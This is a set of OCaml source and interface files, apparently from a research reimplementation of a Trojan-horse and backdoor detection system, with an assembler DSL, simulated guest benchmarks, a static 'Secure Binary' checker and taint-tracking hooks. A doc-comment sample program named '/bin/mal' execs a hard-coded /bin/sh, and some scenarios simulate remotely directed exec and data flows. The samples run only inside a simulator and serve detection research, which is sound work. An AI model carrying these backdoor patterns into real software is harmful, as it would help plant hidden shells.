