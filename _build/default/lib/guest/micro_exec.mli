(** Table 4 — execution-flow micro-benchmarks.

    Four programs that call [execve] with a program name of different
    provenance: typed by the user (benign), hard-coded (Low), hard-coded
    in rarely-executed late code (Medium), received from a remote socket
    (High). *)

val scenarios : Scenario.t list
