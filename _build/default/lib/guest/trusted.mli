(** Table 7 — trusted programs (the false-positive study, Section 8.2).

    Simulated versions of ls, column, make (built / clean / unbuilt),
    g++, awk, pico, tail, diff, wc, bc and xeyes, each performing the
    behaviour the paper describes.  Most are benign; make-clean,
    make-unbuilt, g++ and xeyes reproduce the paper's Low-severity
    warnings on trusted-but-not-well-behaved programs (hard-coded
    execve targets; library data written to a local X socket). *)

val scenarios : Scenario.t list
