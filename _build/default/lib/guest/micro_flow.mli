(** Table 6 — information-flow micro-benchmarks.

    A generator produces one guest program per (source, target,
    name-origin) combination: data flows from BINARY / FILE / SOCKET /
    HARDWARE sources to FILE / SOCKET targets, with each resource name
    given by the user (argv), hard-coded, or received from a remote
    socket.  Socket benchmarks additionally run in server mode (the
    guest binds, listens and accepts), exercising the pma-style
    escalation. *)

(** The origin of one resource name in a generated program. *)
type name_src =
  | From_argv of int  (** argv[n]: USER_INPUT *)
  | Hardwired of string  (** .rodata: BINARY *)
  | From_remote  (** fetched from the control server: SOCKET *)

val scenarios : Scenario.t list
