open Asm

let exe ~iters =
  let u = create ~path:"/bin/perfwork" ~kind:Binary.Image.Executable
      ~base:Common.exe_base ()
  in
  Runtime.prologue u;
  asciz u "srcname" "/data/input.bin";
  asciz u "dstname" "/data/output.bin";
  space u "buf2" 64;
  space u "fd" 4;
  label u "_start";
  Runtime.sys_open u ~path:(lbl "srcname") ~flags:Osim.Abi.o_rdonly;
  movl u (mlbl "fd") eax;
  Runtime.sys_read u ~fd:(mlbl "fd") ~buf:(lbl "__buf") ~len:(imm 64);
  Runtime.sys_close u ~fd:(mlbl "fd");
  movl u edi (imm iters);
  label u "iter";
  (* copy __buf -> buf2, byte by byte, accumulating a checksum *)
  xorl u esi esi;
  xorl u edx edx;
  label u "copy";
  movb u eax (mlbl_base ESI "__buf");
  movb u (mlbl_base ESI "buf2") eax;
  addl u edx eax;
  xorl u edx (imm 0x5A);
  shll u edx (imm 1);
  andl u edx (imm 0xFFFF);
  incl u esi;
  cmpl u esi (imm 64);
  jl u "copy";
  decl u edi;
  jnz u "iter";
  (* write the transformed buffer out *)
  Runtime.sys_open u ~path:(lbl "dstname")
    ~flags:Osim.Abi.(o_creat lor o_wronly);
  movl u (mlbl "fd") eax;
  Runtime.sys_write u ~fd:(mlbl "fd") ~buf:(lbl "buf2") ~len:(imm 64);
  Runtime.sys_close u ~fd:(mlbl "fd");
  Runtime.sys_exit u 0;
  hlt u;
  finalize u

let scenario ~iters =
  Scenario.make ~name:(Fmt.str "perf-copy-%d" iters) ~group:"perf"
    ~descr:"instruction-dense copy/checksum kernel"
    ~expected:(Scenario.Malicious Secpert.Severity.Low)
    (Hth.Session.setup
       ~programs:[ exe ~iters ]
       ~files:[ "/data/input.bin", String.make 64 'x' ]
       ~max_ticks:(200_000 + (700 * iters))
       ~main:"/bin/perfwork" ())
