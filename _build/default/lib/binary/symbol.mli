(** Symbol tables: exports and import relocations.

    Shared objects export routines by name (the loader uses exports both to
    link imports and to let Harrier instrument routine entry/exit — Table 3
    "Library (API) events / Routine").  Executables and libraries may
    import symbols; each import is recorded as a relocation against a text
    index whose immediate operand is patched at link time. *)

type export = {
  sym_name : string;
  sym_addr : int;  (** absolute address of the routine's first instruction *)
}

type reloc = {
  text_index : int;  (** index into the image's text array *)
  target : string;  (** imported symbol name *)
}

val export : string -> int -> export

val reloc : int -> string -> reloc

(** [find_export exports name] is the address exported under [name]. *)
val find_export : export list -> string -> int option

val pp_export : Format.formatter -> export -> unit

val pp_reloc : Format.formatter -> reloc -> unit
