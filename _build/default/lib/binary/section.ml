type t = {
  name : string;
  addr : int;
  bytes : Bytes.t;
}

let make ~name ~addr ~bytes = { name; addr; bytes }

let size s = Bytes.length s.bytes

let contains s addr = addr >= s.addr && addr < s.addr + size s

let pp ppf s =
  Fmt.pf ppf "%s @@ 0x%x (%d bytes)" s.name s.addr (size s)
