lib/binary/symbol.ml: Fmt List String
