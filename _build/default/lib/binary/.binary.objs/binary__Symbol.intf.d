lib/binary/symbol.mli: Format
