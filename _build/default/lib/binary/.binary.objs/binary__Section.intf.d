lib/binary/section.mli: Bytes Format
