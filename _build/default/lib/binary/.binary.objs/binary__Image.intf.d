lib/binary/image.mli: Format Isa Section Symbol
