lib/binary/section.ml: Bytes Fmt
