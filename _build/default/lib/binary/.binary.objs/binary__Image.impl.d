lib/binary/image.ml: Array Fmt Isa List Section Symbol
