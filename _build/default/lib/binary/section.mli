(** Data sections of a binary image.

    Sections are the granularity at which Harrier tags loaded binary
    content as BINARY (Table 3: "Information Flow / Section / Binary
    load"). *)

type t = {
  name : string;  (** e.g. [".data"], [".rodata"] *)
  addr : int;  (** absolute load address of the first byte *)
  bytes : Bytes.t;  (** initial contents, copied into memory at load *)
}

val make : name:string -> addr:int -> bytes:Bytes.t -> t

(** [size s] is the number of bytes in [s]. *)
val size : t -> int

(** [contains s addr] is true if [addr] falls inside [s]. *)
val contains : t -> int -> bool

val pp : Format.formatter -> t -> unit
