type export = {
  sym_name : string;
  sym_addr : int;
}

type reloc = {
  text_index : int;
  target : string;
}

let export sym_name sym_addr = { sym_name; sym_addr }

let reloc text_index target = { text_index; target }

let find_export exports name =
  List.find_map
    (fun e -> if String.equal e.sym_name name then Some e.sym_addr else None)
    exports

let pp_export ppf e = Fmt.pf ppf "%s=0x%x" e.sym_name e.sym_addr

let pp_reloc ppf r = Fmt.pf ppf "text[%d]->%s" r.text_index r.target
