type arg =
  | Imm of int
  | Reg of Isa.Reg.t
  | Mem of Isa.Operand.mem_ref
  | Lbl of string
  | Mlbl of string * int
  | MlblBase of Isa.Reg.t * string * int

let eax = Reg Isa.Reg.EAX
let ebx = Reg Isa.Reg.EBX
let ecx = Reg Isa.Reg.ECX
let edx = Reg Isa.Reg.EDX
let esi = Reg Isa.Reg.ESI
let edi = Reg Isa.Reg.EDI
let ebp = Reg Isa.Reg.EBP
let esp = Reg Isa.Reg.ESP

let imm n = Imm n
let lbl name = Lbl name
let mlbl ?(off = 0) name = Mlbl (name, off)
let mlbl_base r ?(off = 0) name = MlblBase (r, name, off)
let ind r = Mem { base = Some r; index = None; scale = 1; disp = 0 }
let ind_off r disp = Mem { base = Some r; index = None; scale = 1; disp }

let idx base index scale disp =
  Mem { base = Some base; index = Some index; scale; disp }

(* Text is collected as shapes whose label references are resolved in the
   second pass. *)
type shape =
  | SMov of Isa.Insn.size
  | SLea
  | SAdd
  | SSub
  | SAnd
  | SOr
  | SXor
  | SMul
  | SDiv
  | SShl
  | SShr
  | SInc
  | SDec
  | SCmp of Isa.Insn.size
  | STest
  | SPush
  | SPop
  | SJmp of string
  | SJmpi
  | SJcc of Isa.Insn.cond * string
  | SCall of string
  | SCalli
  | SRet
  | SInt of int
  | SCpuid
  | SNop
  | SHlt

type text_item = { shape : shape; args : arg list }

type data_pos = Ro of int | Rw of int

type t = {
  path : string;
  kind : Binary.Image.kind;
  base : int;
  needed : string list;
  mutable text : text_item list;  (* reversed *)
  mutable text_len : int;
  text_labels : (string, int) Hashtbl.t;  (* label -> text index *)
  data_labels : (string, data_pos) Hashtbl.t;
  ro_buf : Buffer.t;
  rw_buf : Buffer.t;
  mutable exports : string list;
}

let create ?(needed = []) ~path ~kind ~base () =
  { path; kind; base; needed; text = []; text_len = 0;
    text_labels = Hashtbl.create 64; data_labels = Hashtbl.create 64;
    ro_buf = Buffer.create 256; rw_buf = Buffer.create 256; exports = [] }

let emit u shape args =
  u.text <- { shape; args } :: u.text;
  u.text_len <- u.text_len + 1

let label u name =
  if Hashtbl.mem u.text_labels name || Hashtbl.mem u.data_labels name then
    failwith (Fmt.str "Asm: duplicate label %S in %s" name u.path);
  Hashtbl.replace u.text_labels name u.text_len

let export u name = u.exports <- name :: u.exports

let movl u dst src = emit u (SMov Isa.Insn.W) [ dst; src ]
let movb u dst src = emit u (SMov Isa.Insn.B) [ dst; src ]
let lea u dst src = emit u SLea [ dst; src ]
let addl u a b = emit u SAdd [ a; b ]
let subl u a b = emit u SSub [ a; b ]
let andl u a b = emit u SAnd [ a; b ]
let orl u a b = emit u SOr [ a; b ]
let xorl u a b = emit u SXor [ a; b ]
let imull u a b = emit u SMul [ a; b ]
let idivl u a b = emit u SDiv [ a; b ]
let shll u a b = emit u SShl [ a; b ]
let shrl u a b = emit u SShr [ a; b ]
let incl u a = emit u SInc [ a ]
let decl u a = emit u SDec [ a ]
let cmpl u a b = emit u (SCmp Isa.Insn.W) [ a; b ]
let cmpb u a b = emit u (SCmp Isa.Insn.B) [ a; b ]
let testl u a b = emit u STest [ a; b ]
let pushl u a = emit u SPush [ a ]
let popl u a = emit u SPop [ a ]
let jmp u name = emit u (SJmp name) []
let jmpi u a = emit u SJmpi [ a ]
let jz u n = emit u (SJcc (Isa.Insn.Z, n)) []
let jnz u n = emit u (SJcc (Isa.Insn.NZ, n)) []
let jl u n = emit u (SJcc (Isa.Insn.L, n)) []
let jle u n = emit u (SJcc (Isa.Insn.LE, n)) []
let jg u n = emit u (SJcc (Isa.Insn.G, n)) []
let jge u n = emit u (SJcc (Isa.Insn.GE, n)) []
let js u n = emit u (SJcc (Isa.Insn.S, n)) []
let jns u n = emit u (SJcc (Isa.Insn.NS, n)) []
let call u name = emit u (SCall name) []
let calli u a = emit u SCalli [ a ]
let ret u = emit u SRet []
let int80 u = emit u (SInt 0x80) []
let cpuid u = emit u SCpuid []
let nop u = emit u SNop []
let hlt u = emit u SHlt []

let define_data u buf pos_of name payload =
  if Hashtbl.mem u.text_labels name || Hashtbl.mem u.data_labels name then
    failwith (Fmt.str "Asm: duplicate label %S in %s" name u.path);
  Hashtbl.replace u.data_labels name (pos_of (Buffer.length buf));
  Buffer.add_string buf payload

let asciz u name s = define_data u u.ro_buf (fun o -> Ro o) name (s ^ "\000")
let bytes_ u name s = define_data u u.ro_buf (fun o -> Ro o) name s

let word u name v =
  let b = Bytes.create 4 in
  Bytes.set_int32_le b 0 (Int32.of_int v);
  define_data u u.rw_buf (fun o -> Rw o) name (Bytes.to_string b)

let space u name n =
  define_data u u.rw_buf (fun o -> Rw o) name (String.make n '\000')

let align16 n = (n + 15) land lnot 15

let finalize u =
  let items = Array.of_list (List.rev u.text) in
  let text_end = u.base + Array.length items in
  let ro_base = align16 text_end in
  let rw_base = align16 (ro_base + Buffer.length u.ro_buf) in
  let addr_of name =
    match Hashtbl.find_opt u.text_labels name with
    | Some i -> Some (u.base + i)
    | None ->
      (match Hashtbl.find_opt u.data_labels name with
       | Some (Ro o) -> Some (ro_base + o)
       | Some (Rw o) -> Some (rw_base + o)
       | None -> None)
  in
  let addr_exn name =
    match addr_of name with
    | Some a -> a
    | None -> failwith (Fmt.str "Asm: undefined label %S in %s" name u.path)
  in
  let lower_arg = function
    | Imm n -> Isa.Operand.Imm n
    | Reg r -> Isa.Operand.Reg r
    | Mem m -> Isa.Operand.Mem m
    | Lbl name -> Isa.Operand.Imm (addr_exn name)
    | Mlbl (name, off) ->
      Isa.Operand.Mem
        { base = None; index = None; scale = 1; disp = addr_exn name + off }
    | MlblBase (r, name, off) ->
      Isa.Operand.Mem
        { base = Some r; index = None; scale = 1; disp = addr_exn name + off }
  in
  let relocs = ref [] in
  let lower i { shape; args } =
    let a n = lower_arg (List.nth args n) in
    let reg n =
      match List.nth args n with
      | Reg r -> r
      | _ -> failwith "Asm: lea destination must be a register"
    in
    let memref n =
      match lower_arg (List.nth args n) with
      | Isa.Operand.Mem m -> m
      | _ -> failwith "Asm: lea source must be a memory reference"
    in
    let open Isa.Insn in
    match shape with
    | SMov sz -> Mov (sz, a 0, a 1)
    | SLea -> Lea (reg 0, memref 1)
    | SAdd -> Add (a 0, a 1)
    | SSub -> Sub (a 0, a 1)
    | SAnd -> And (a 0, a 1)
    | SOr -> Or (a 0, a 1)
    | SXor -> Xor (a 0, a 1)
    | SMul -> Mul (a 0, a 1)
    | SDiv -> Div (a 0, a 1)
    | SShl -> Shl (a 0, a 1)
    | SShr -> Shr (a 0, a 1)
    | SInc -> Inc (a 0)
    | SDec -> Dec (a 0)
    | SCmp sz -> Cmp (sz, a 0, a 1)
    | STest -> Test (a 0, a 1)
    | SPush -> Push (a 0)
    | SPop -> Pop (a 0)
    | SJmp name -> Jmp (Imm (addr_exn name))
    | SJmpi -> Jmp (a 0)
    | SJcc (c, name) -> Jcc (c, Imm (addr_exn name))
    | SCall name ->
      (match addr_of name with
       | Some addr -> Call (Imm addr)
       | None ->
         relocs := Binary.Symbol.reloc i name :: !relocs;
         Call (Imm 0))
    | SCalli -> Call (a 0)
    | SRet -> Ret
    | SInt n -> Int n
    | SCpuid -> Cpuid
    | SNop -> Nop
    | SHlt -> Hlt
  in
  let text = Array.mapi lower items in
  let sections =
    let sec name addr buf =
      if Buffer.length buf = 0 then []
      else
        [ Binary.Section.make ~name ~addr
            ~bytes:(Bytes.of_string (Buffer.contents buf)) ]
    in
    sec ".rodata" ro_base u.ro_buf @ sec ".data" rw_base u.rw_buf
  in
  let exports =
    List.rev_map (fun name -> Binary.Symbol.export name (addr_exn name))
      u.exports
  in
  let entry =
    match addr_of "_start" with Some a -> a | None -> u.base
  in
  Binary.Image.make ~path:u.path ~kind:u.kind ~base:u.base ~text ~sections
    ~exports ~relocs:(List.rev !relocs) ~needed:u.needed ~entry

let listing (img : Binary.Image.t) =
  let b = Buffer.create 1024 in
  Array.iteri
    (fun i insn ->
      Buffer.add_string b
        (Fmt.str "%6x:  %s\n" (img.base + i) (Isa.Insn.to_string insn)))
    img.text;
  Buffer.contents b
