(** A two-pass assembler, embedded as an OCaml DSL.

    Guest programs (the micro-benchmarks, the simulated trusted programs
    and exploits, and the guest libc) are written against this module and
    assembled into {!Image.t} values.  Labels may be referenced before
    they are defined; calls to names that are neither labels in the
    current unit nor locally defined become import relocations resolved by
    the loader against shared-object export tables.

    Example — a program that execs a hard-coded path:
    {[
      let image =
        let u = Asm.create ~path:"/bin/mal" ~kind:Executable ~base:0x1000 () in
        Asm.asciz u "prog" "/bin/sh";
        Asm.label u "_start";
        Asm.movl u eax (imm 11);          (* SYS_execve *)
        Asm.movl u ebx (lbl "prog");
        Asm.int80 u;
        Asm.hlt u;
        Asm.finalize u
    ]} *)

(** Operand syntax of the DSL: plain ISA operands plus label references. *)
type arg =
  | Imm of int
  | Reg of Isa.Reg.t
  | Mem of Isa.Operand.mem_ref
  | Lbl of string  (** immediate whose value is the label's address *)
  | Mlbl of string * int  (** memory operand at label + offset *)
  | MlblBase of Isa.Reg.t * string * int
      (** memory operand at label + offset + register base *)

(** Register shorthands. *)

val eax : arg
val ebx : arg
val ecx : arg
val edx : arg
val esi : arg
val edi : arg
val ebp : arg
val esp : arg

val imm : int -> arg

(** [lbl name] is the address of [name] as an immediate. *)
val lbl : string -> arg

(** [mlbl ?off name] is the memory cell at [name + off]. *)
val mlbl : ?off:int -> string -> arg

(** [mlbl_base r ?off name] is the memory cell at [name + off + %r] —
    label-relative addressing with a register base, used for record
    walks in the guest libc. *)
val mlbl_base : Isa.Reg.t -> ?off:int -> string -> arg

(** [ind r] is [(%r)]; [ind_off r n] is [n(%r)]. *)
val ind : Isa.Reg.t -> arg

val ind_off : Isa.Reg.t -> int -> arg

(** [idx base index scale disp] is [disp(base,index,scale)]. *)
val idx : Isa.Reg.t -> Isa.Reg.t -> int -> int -> arg

type t

(** [create ~path ~kind ~base ()] starts a unit assembled at fixed [base].
    [needed] lists shared objects the loader must map first. *)
val create :
  ?needed:string list -> path:string -> kind:Binary.Image.kind -> base:int ->
  unit -> t

(** {2 Labels and symbols} *)

(** [label u name] binds [name] to the current text address. *)
val label : t -> string -> unit

(** [export u name] marks label [name] as exported (a routine other images
    may import and the monitor may instrument). *)
val export : t -> string -> unit

(** {2 Text emission} *)

val movl : t -> arg -> arg -> unit
val movb : t -> arg -> arg -> unit
val lea : t -> arg -> arg -> unit
val addl : t -> arg -> arg -> unit
val subl : t -> arg -> arg -> unit
val andl : t -> arg -> arg -> unit
val orl : t -> arg -> arg -> unit
val xorl : t -> arg -> arg -> unit
val imull : t -> arg -> arg -> unit
val idivl : t -> arg -> arg -> unit
val shll : t -> arg -> arg -> unit
val shrl : t -> arg -> arg -> unit
val incl : t -> arg -> unit
val decl : t -> arg -> unit
val cmpl : t -> arg -> arg -> unit
val cmpb : t -> arg -> arg -> unit
val testl : t -> arg -> arg -> unit
val pushl : t -> arg -> unit
val popl : t -> arg -> unit
val jmp : t -> string -> unit
val jmpi : t -> arg -> unit
val jz : t -> string -> unit
val jnz : t -> string -> unit
val jl : t -> string -> unit
val jle : t -> string -> unit
val jg : t -> string -> unit
val jge : t -> string -> unit
val js : t -> string -> unit
val jns : t -> string -> unit

(** [call u name] calls label [name]; if [name] is not defined in this
    unit it becomes an import relocation. *)
val call : t -> string -> unit

val calli : t -> arg -> unit
val ret : t -> unit
val int80 : t -> unit
val cpuid : t -> unit
val nop : t -> unit
val hlt : t -> unit

(** {2 Data emission} *)

(** [asciz u name s] places the NUL-terminated string [s] in [.rodata]
    under label [name]. *)
val asciz : t -> string -> string -> unit

(** [bytes_ u name b] places raw bytes in [.rodata]. *)
val bytes_ : t -> string -> string -> unit

(** [word u name v] places a 32-bit little-endian word in [.data]. *)
val word : t -> string -> int -> unit

(** [space u name n] reserves [n] zeroed bytes in [.data]. *)
val space : t -> string -> int -> unit

(** {2 Finalisation} *)

(** [finalize u] runs the second pass and produces the image.  The entry
    point is the [_start] label if defined, else the image base.
    @raise Failure on undefined label references other than imports. *)
val finalize : t -> Binary.Image.t

(** [listing img] renders an address-annotated disassembly of the image's
    text, used by the Fig. 5 style demonstrations. *)
val listing : Binary.Image.t -> string
