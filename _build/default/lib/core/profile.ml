type t = (string, int) Hashtbl.t

let create () : t = Hashtbl.create 16

(* newlines inside messages would break the persistence format *)
let escape s =
  String.concat "\\n" (String.split_on_char '\n' s)

let fingerprint (w : Secpert.Warning.t) =
  escape (w.rule ^ "|" ^ w.message)

let known t w = Hashtbl.mem t (fingerprint w)

let acknowledge t ws =
  List.iter
    (fun w ->
      let key = fingerprint w in
      let n = Option.value (Hashtbl.find_opt t key) ~default:0 in
      Hashtbl.replace t key (n + 1))
    ws

let novel t ws = List.filter (fun w -> not (known t w)) ws

let effective_verdict t (r : Session.result) =
  match Secpert.Warning.max_severity (novel t r.warnings) with
  | None -> Report.Benign
  | Some s -> Report.Suspicious s

let to_string t =
  Hashtbl.fold (fun key n acc -> Fmt.str "%d\t%s\n" n key :: acc) t []
  |> List.sort compare
  |> String.concat ""

let of_string s =
  let t = create () in
  String.split_on_char '\n' s
  |> List.iter (fun line ->
         match String.index_opt line '\t' with
         | Some i ->
           let n = int_of_string_opt (String.sub line 0 i) in
           let key = String.sub line (i + 1) (String.length line - i - 1) in
           (match n with
            | Some n when key <> "" -> Hashtbl.replace t key n
            | _ -> ())
         | None -> ());
  t

let size = Hashtbl.length
