(** The "Secure Binary" static check (Appendix B).

    A Secure Binary contains no hard-coded data used as a resource name
    or resource content: such a binary is {e safer} (not safe) with
    respect to Trojan Horses and Backdoors, because the dominant pattern
    — hard-coded file names, socket addresses and payloads — is
    impossible by construction.

    This checker is a conservative static approximation: it scans each
    basic block for immediates pointing into the image's own data
    sections that reach a resource-naming system-call argument register
    ([ebx] for open/creat/execve paths, the sockaddr pointer for
    connect/bind) before the trapping [int $0x80]. *)

type violation = {
  v_text_index : int;  (** instruction index within the image's text *)
  v_addr : int;  (** absolute instruction address *)
  v_syscall : string;  (** the syscall whose argument is hard-coded *)
  v_data_addr : int;  (** address inside the data section *)
}

(** [check img] returns all violations; an image with none is a Secure
    Binary under the relaxed rule of Appendix B. *)
val check : Binary.Image.t -> violation list

val is_secure : Binary.Image.t -> bool

val pp_violation : Format.formatter -> violation -> unit
