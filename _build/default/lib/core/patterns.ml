type t = {
  no_user_intervention : bool;
  remotely_directed : bool;
  hardcoded_resources : bool;
  degrading_performance : bool;
}

let origin_tags (e : Harrier.Events.t) =
  match e with
  | Exec { path; _ } -> [ path.r_origin ]
  | Access { res; _ } -> [ res.r_origin ]
  | Transfer { target; data; via_server; sources; _ } ->
    (target.r_origin :: data
     :: List.map (fun (_, o) -> o) sources)
    @ (match via_server with Some s -> [ s.r_origin ] | None -> [])
  | Clone _ | Alloc _ -> []

let derive ?(trust = Secpert.Trust.default) (r : Session.result) =
  let tags = List.concat_map origin_tags r.events in
  let classify tag = Secpert.Trust.classify trust tag in
  let user_seen =
    List.exists (fun tag -> Taint.Tagset.has_user_input tag) tags
  in
  let remote_name =
    List.exists
      (fun tag ->
        match classify tag with
        | Taint.Origin.From_socket _ -> true
        | _ -> false)
      tags
  in
  let accepted =
    List.exists
      (function
        | Harrier.Events.Access { call = "SYS_accept"; _ } -> true
        | _ -> false)
      r.events
  in
  let hardcoded =
    List.exists
      (fun tag ->
        match classify tag with
        | Taint.Origin.Hardcoded _ -> true
        | _ -> false)
      tags
  in
  let degrading =
    List.exists
      (fun (w : Secpert.Warning.t) ->
        String.length w.rule >= 11 && String.sub w.rule 0 11 = "check_clone")
      r.warnings
  in
  { no_user_intervention = not user_seen;
    remotely_directed = remote_name || accepted;
    hardcoded_resources = hardcoded;
    degrading_performance = degrading }

let mark b = if b then "x" else ""

let row t =
  [ mark t.no_user_intervention; mark t.remotely_directed;
    mark t.hardcoded_resources; mark t.degrading_performance ]

let pp ppf t =
  Fmt.pf ppf "no-user:%b remote:%b hardcoded:%b degrading:%b"
    t.no_user_intervention t.remotely_directed t.hardcoded_resources
    t.degrading_performance
