(** Execution-pattern characterization (Table 1 / Section 2.2).

    The paper distills four common execution patterns of Trojan Horses
    and Backdoors.  This module derives them from a monitored run's
    event stream, so Table 1 can be {e regenerated} by running the
    simulated exploit corpus instead of being transcribed. *)

type t = {
  no_user_intervention : bool;
      (** the run never consumed user-originated data *)
  remotely_directed : bool;
      (** inbound connections were accepted, or resource names arrived
          over sockets *)
  hardcoded_resources : bool;
      (** resource names or payloads originated in untrusted binaries *)
  degrading_performance : bool;  (** resource-abuse warnings fired *)
}

(** [derive ?trust result] inspects the events (and warnings) of a
    session. *)
val derive : ?trust:Secpert.Trust.t -> Session.result -> t

(** [row t] renders the four columns as check marks / blanks. *)
val row : t -> string list

val pp : Format.formatter -> t -> unit
