(** Cross-session behaviour profiles (Section 10, items 6 and 8).

    The paper's prototype judges a single execution, which makes trusted
    programs like g++ warn on every run.  A profile records the warnings
    a user has {e acknowledged} as expected for a program; subsequent
    sessions split their warnings into novel ones (worth showing) and
    known ones (suppressed), reducing false positives across sessions
    exactly as the paper's future work proposes. *)

type t

val create : unit -> t

(** [fingerprint w] identifies a warning across sessions: the rule plus
    its message (which embeds the resources involved), but not the
    volatile time/pid fields. *)
val fingerprint : Secpert.Warning.t -> string

(** [known t w] is true once [w]'s fingerprint has been acknowledged. *)
val known : t -> Secpert.Warning.t -> bool

(** [acknowledge t ws] marks all of [ws] as expected behaviour. *)
val acknowledge : t -> Secpert.Warning.t list -> unit

(** [novel t ws] filters out acknowledged warnings. *)
val novel : t -> Secpert.Warning.t list -> Secpert.Warning.t list

(** [effective_verdict t result] is the verdict computed from the novel
    warnings only. *)
val effective_verdict : t -> Session.result -> Report.verdict

(** {2 Persistence}

    Profiles survive between runs as plain text: one line per
    acknowledged fingerprint with its count. *)

val to_string : t -> string

val of_string : string -> t

val size : t -> int
