(** Recording and replaying event traces.

    A trace is the serialized Harrier event stream of a monitored run:
    one s-expression per event, human-readable and stable.  Traces allow
    {e offline} policy analysis — re-run Secpert (any configuration, any
    policy engine, new rules) over a session recorded earlier, without
    re-executing the guest.  This underpins the paper's cross-session
    direction (Section 10 items 6–8): keep traces, re-judge them as the
    policy evolves. *)

(** [to_string events] serializes a trace. *)
val to_string : Harrier.Events.t list -> string

(** [of_string s] parses a trace back.  [Error] carries a message with
    the offending form. *)
val of_string : string -> (Harrier.Events.t list, string) result

(** [record result] is the trace of a finished session. *)
val record : Session.result -> string

(** [replay ?trust ?thresholds ?policy events] pushes the events through
    a fresh Secpert and returns its warnings — identical to the live
    run's warnings when the configuration matches. *)
val replay :
  ?trust:Secpert.Trust.t ->
  ?thresholds:Secpert.Context.thresholds ->
  ?policy:Secpert.System.policy ->
  Harrier.Events.t list ->
  Secpert.Warning.t list
