lib/core/report.mli: Format Secpert Session
