lib/core/profile.mli: Report Secpert Session
