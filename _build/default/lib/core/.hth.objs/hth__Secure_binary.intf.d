lib/core/secure_binary.mli: Binary Format
