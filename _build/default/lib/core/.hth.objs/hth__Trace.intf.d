lib/core/trace.mli: Harrier Secpert Session
