lib/core/session.ml: Binary Harrier List Osim Secpert
