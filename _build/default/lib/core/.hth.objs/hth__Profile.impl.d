lib/core/profile.ml: Fmt Hashtbl List Option Report Secpert Session String
