lib/core/secure_binary.ml: Array Binary Fmt Isa List
