lib/core/session.mli: Binary Harrier Osim Secpert
