lib/core/trace.ml: Expert Fmt Harrier List Secpert Session String Taint
