lib/core/patterns.mli: Format Secpert Session
