lib/core/patterns.ml: Fmt Harrier List Secpert Session String Taint
