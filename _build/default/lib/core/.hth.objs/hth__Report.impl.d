lib/core/report.ml: Fmt Harrier List Osim Secpert Session
