type violation = {
  v_text_index : int;
  v_addr : int;
  v_syscall : string;
  v_data_addr : int;
}

let in_data (img : Binary.Image.t) addr =
  List.exists (fun s -> Binary.Section.contains s addr) img.sections

(* Per-register constant tracking within one basic block: [Some v] when
   the register was last loaded with the immediate [v]. *)
let check (img : Binary.Image.t) =
  let regs = Array.make Isa.Reg.count None in
  let reset () = Array.fill regs 0 Isa.Reg.count None in
  let kill (op : Isa.Operand.t) =
    match op with
    | Reg r -> regs.(Isa.Reg.index r) <- None
    | Imm _ | Mem _ -> ()
  in
  let violations = ref [] in
  let record i name data_addr =
    violations :=
      { v_text_index = i; v_addr = img.base + i; v_syscall = name;
        v_data_addr = data_addr }
      :: !violations
  in
  let syscall_of = function
    | 5 -> Some ("SYS_open", [ Isa.Reg.EBX ])
    | 8 -> Some ("SYS_creat", [ Isa.Reg.EBX ])
    | 11 -> Some ("SYS_execve", [ Isa.Reg.EBX ])
    | 4 -> Some ("SYS_write", [ Isa.Reg.ECX ])
    | 102 -> Some ("SYS_socketcall", [ Isa.Reg.ECX ])
    | _ -> None
  in
  Array.iteri
    (fun i (insn : Isa.Insn.t) ->
      match insn with
      | Mov (Isa.Insn.W, Reg r, Imm v) ->
        regs.(Isa.Reg.index r) <- Some v
      | Mov (_, dst, _) | Add (dst, _) | Sub (dst, _) | And (dst, _)
      | Or (dst, _) | Xor (dst, _) | Mul (dst, _) | Div (dst, _)
      | Shl (dst, _) | Shr (dst, _) | Inc dst | Dec dst | Pop dst ->
        kill dst
      | Lea (r, _) -> regs.(Isa.Reg.index r) <- None
      | Cpuid ->
        List.iter
          (fun r -> regs.(Isa.Reg.index r) <- None)
          [ Isa.Reg.EAX; Isa.Reg.EBX; Isa.Reg.ECX; Isa.Reg.EDX ]
      | Int 0x80 ->
        (match regs.(Isa.Reg.index Isa.Reg.EAX) with
         | Some nr ->
           (match syscall_of nr with
            | Some (name, arg_regs) ->
              List.iter
                (fun r ->
                  match regs.(Isa.Reg.index r) with
                  | Some v when in_data img v -> record i name v
                  | Some _ | None -> ())
                arg_regs
            | None -> ())
         | None -> ());
        reset ()
      | Jmp _ | Jcc _ | Call _ | Ret | Int _ | Hlt -> reset ()
      | Cmp _ | Test _ | Push _ | Nop -> ())
    img.text;
  List.rev !violations

let is_secure img = check img = []

let pp_violation ppf v =
  Fmt.pf ppf "text[%d]@@0x%x: %s argument points at hard-coded data 0x%x"
    v.v_text_index v.v_addr v.v_syscall v.v_data_addr
