(** Library-call short-circuiting (Section 7.2).

    Routines such as [gethostbyname] {e translate} data through a table
    (the hosts database), so naive byte-level tracking tags the result
    with the table's provenance instead of the input's.  Harrier treats
    such routines as atomic: it captures the taint of the interesting
    argument at entry and overwrites the taint of the result at exit —
    tying the hard-coded ["pop.mail.yahoo.com"] to the network address
    [connect] ultimately receives. *)

(** What to do at the boundaries of one routine. *)
type spec = {
  routine : string;  (** exported symbol name, e.g. ["gethostbyname"] *)
  capture : Vm.Machine.t -> Shadow.t -> Taint.Tagset.t;
      (** run at entry (the [Call] instruction is about to execute, so
          the first argument is at [(%esp)]) *)
  apply : Vm.Machine.t -> Shadow.t -> Taint.Tagset.t -> unit;
      (** run at exit (the matching [Ret] is about to execute; the
          result is in [%eax]) *)
}

(** The paper's example: capture the tags of the NUL-terminated hostname
    string pointed to by the first argument; at exit, stamp them over the
    4-byte address buffer [%eax] points at. *)
val gethostbyname : spec

type frame

type t

val create : spec list -> t

(** [clone t] copies the frame stack (fork). *)
val clone : t -> t

(** [specs t] lists the configured routines. *)
val specs : t -> spec list

(** [on_call t ~routine machine shadow ~ret_addr] pushes a tracking frame
    when [routine] has a spec. *)
val on_call : t -> routine:string -> Vm.Machine.t -> Shadow.t ->
  ret_addr:int -> unit

(** [on_ret t machine shadow] detects the matching return (stack-pointer
    discipline) and applies the captured taint. *)
val on_ret : t -> Vm.Machine.t -> Shadow.t -> unit

(** [reset t] drops all frames (execve). *)
val reset : t -> unit
