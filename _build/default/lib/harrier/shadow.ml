type t = {
  regs : Taint.Tagset.t array;
  mem : (int, Taint.Tagset.t) Hashtbl.t;
}

let create () =
  { regs = Array.make Isa.Reg.count Taint.Tagset.empty;
    mem = Hashtbl.create 1024 }

let clone s = { regs = Array.copy s.regs; mem = Hashtbl.copy s.mem }

